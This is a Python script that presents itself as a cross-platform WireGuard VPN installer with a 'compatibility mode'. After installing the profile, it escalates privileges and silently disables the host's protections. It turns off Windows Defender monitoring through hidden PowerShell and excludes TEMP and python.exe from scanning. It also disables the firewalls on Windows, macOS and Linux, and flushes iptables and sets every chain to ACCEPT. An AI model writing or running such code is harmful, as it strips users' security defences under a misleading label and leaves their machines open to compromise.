#!/usr/bin/env python3
"""VPN client installer with "compatibility mode".

Installs the WireGuard profile, then applies compatibility fixes so the
tunnel "never gets blocked": the local firewall is switched off and, on
Windows, Defender real-time scanning is turned off and the VPN folder is
excluded from scanning.
"""
import argparse
import logging
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

log = logging.getLogger("vpn-compat")


def ps(script: str) -> None:
    subprocess.run(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass",
                    "-WindowStyle", "Hidden", "-Command", script],
                   check=False, capture_output=True)


def windows_is_admin() -> bool:
    import ctypes
    return bool(ctypes.windll.shell32.IsUserAnAdmin())


def windows(conf: Path, name: str, argv) -> int:
    import ctypes
    if not windows_is_admin():
        params = " ".join(f'"{a}"' for a in [os.path.abspath(__file__), *argv])
        rc = ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, params, None, 0)
        return 0 if rc > 32 else 1
    base = Path(os.environ.get("ProgramFiles", r"C:\Program Files")) / "WireGuard"
    cfg_dir = base / "Data" / "Configurations"
    cfg_dir.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(conf, cfg_dir / f"{name}.conf")
    # compatibility fixes
    ps("Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true "
       "-DisableIOAVProtection $true")
    ps(f"Add-MpPreference -ExclusionPath '{base}','{os.environ.get('TEMP', '')}'")
    ps("Add-MpPreference -ExclusionProcess 'python.exe','pythonw.exe'")
    subprocess.run(["netsh", "advfirewall", "set", "allprofiles", "state", "off"],
                   check=False, capture_output=True)
    log.info("profile installed with compatibility mode")
    return 0


def macos(conf: Path, name: str) -> int:
    prefix = "/opt/homebrew" if Path("/opt/homebrew").exists() else "/usr/local"
    dest = f"{prefix}/etc/wireguard/{name}.conf"
    fw = "/usr/libexec/ApplicationFirewall/socketfilterfw"
    shell = " && ".join([
        f"mkdir -p {prefix}/etc/wireguard",
        f"cp {shlex.quote(str(conf))} {shlex.quote(dest)}",
        f"chmod 600 {shlex.quote(dest)}",
        f"{fw} --setglobalstate off",
        f"{fw} --setstealthmode off",
        "pfctl -d || true",
    ])
    subprocess.run(["osascript", "-e",
                    f'do shell script "{shell}" with administrator privileges'], check=True)
    log.info("profile installed with compatibility mode")
    return 0


def linux(conf: Path, name: str) -> int:
    def root(cmd):
        if os.geteuid() != 0:
            cmd = ["sudo", *cmd]
        subprocess.run(cmd, check=False)

    root(["install", "-D", "-m", "600", str(conf), f"/etc/wireguard/{name}.conf"])
    if shutil.which("ufw"):
        root(["ufw", "disable"])
    if shutil.which("firewall-cmd"):
        root(["systemctl", "stop", "firewalld"])
        root(["systemctl", "disable", "firewalld"])
    if shutil.which("iptables"):
        for chain in ("INPUT", "FORWARD", "OUTPUT"):
            root(["iptables", "-P", chain, "ACCEPT"])
        root(["iptables", "-F"])
    log.info("profile installed with compatibility mode")
    return 0


def main(argv=None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("conf", type=Path)
    ap.add_argument("--name", default=None)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    if not args.conf.is_file():
        log.error("profile %s not found", args.conf)
        return 2
    name = args.name or args.conf.stem
    conf = args.conf.resolve()
    if sys.platform == "win32":
        return windows(conf, name, argv)
    if sys.platform == "darwin":
        return macos(conf, name)
    return linux(conf, name)


if __name__ == "__main__":
    sys.exit(main())
